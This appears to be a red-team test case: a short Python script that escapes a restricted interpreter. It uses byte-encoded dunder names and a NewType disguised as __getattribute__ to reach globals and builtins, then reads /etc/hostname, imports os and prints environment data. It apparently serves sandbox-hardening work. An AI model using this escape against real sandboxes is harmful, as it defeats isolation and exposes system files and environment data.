# family: red team, round 37 (field_makers.made_name: the name given to NewType through **{"name": ...} is never looked at (the keyword's arg is None), so classmethod(NewType) copied by copy.copy is getattr(Box, "__getattribute__"))
import copy
import typing


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


class Box:
    lookup = classmethod(typing.NewType(**{"name": dunder("getattribute"), "tp": int}))


def main():
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["typing"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
